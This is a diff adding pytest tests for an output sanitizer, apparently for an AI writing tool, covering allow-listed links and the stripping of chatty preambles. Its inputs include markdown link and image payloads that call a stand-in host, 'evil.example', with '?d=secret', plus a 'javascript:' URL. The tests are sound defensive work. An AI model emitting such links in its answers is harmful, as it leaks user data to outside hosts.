@@ -41,6 +41,22 @@ def test_images_and_links_outside_the_allow_list_are_removed():
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "[a [b] c](https://evil.example/?d=secret)",
+        "[a [b [c] d] e](https://evil.example/?d=secret)",
+        "![alt [x] y](https://evil.example/p.png?d=secret)",
+        "[x]( https://evil.example/?d=secret 'title')",
+    ],
+)
+def test_links_with_brackets_in_their_text_are_no_way_around_the_allow_list(text):
+    """Markdown allows balanced brackets in a link's words: such a link to another host loses its target too."""
+    clean = sanitize_output(f"See {text} now.", ["microsoft.com"])
+    assert "evil.example" not in clean and "secret" not in clean
+    assert sanitize_output("[a [b] c](https://learn.microsoft.com/x)", ["microsoft.com"]).endswith("microsoft.com/x)")
+
+
+@pytest.mark.parametrize(
     "url",
     ["http://evilmicrosoft.com/x", "javascript:alert(1)", "data:image/png;base64,AA", "/relative", "//evil.example/x"],
 )
@@ -73,3 +89,36 @@ def test_sanitize_output_applies_preamble_rule_only_for_rewrite_style():
     answer = "Sure! Here is the summary:\n<b>Growth</b> ![t](https://evil.example/t?d=1)"
     assert sanitize_output(answer, rewrite_style=True) == "Growth"
     assert sanitize_output(answer) == "Sure! Here is the summary:\nGrowth"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Here are the dates:\n- 3 May\n- 9 May",
+        "I have three questions:\n1. Who signs?\n2. When?",
+        "I've attached the following:\nthe signed contract.",
+        "Dear Tom,\nThe meeting moved to Friday.\nLet me know if Friday works for you.",
+        "Hi all,\nThe office is closed on Monday.\nFeel free to work from home.",
+        "Dinner is on us this year.\nWould you like to bring a guest?",
+    ],
+)
+def test_document_text_that_looks_like_chat_is_kept(text):
+    """A rewritten e-mail that opens with 'Here are...:' or ends with 'Let me know if...' is the user's own text:
+    only openers and offers about the answer itself go."""
+    assert strip_preamble(text) == text
+
+
+@pytest.mark.parametrize(
+    ("answer", "expected"),
+    [
+        ("Here's the passage rewritten in a friendly tone:\nHi all!", "Hi all!"),
+        ("I've made it more concise:\nShort text.", "Short text."),
+        ("Short text.\n\nLet me know if you'd like any other changes.", "Short text."),
+        ("Short text.\nI hope this helps!", "Short text."),
+        ("Short text.\n\nWould you like me to make it shorter?", "Short text."),
+        ("Short text.\nFeel free to ask for another version.", "Short text."),
+    ],
+)
+def test_openers_and_offers_about_the_answer_still_go(answer, expected):
+    """The chatty wrapper of an answer is removed as before."""
+    assert strip_preamble(answer) == expected
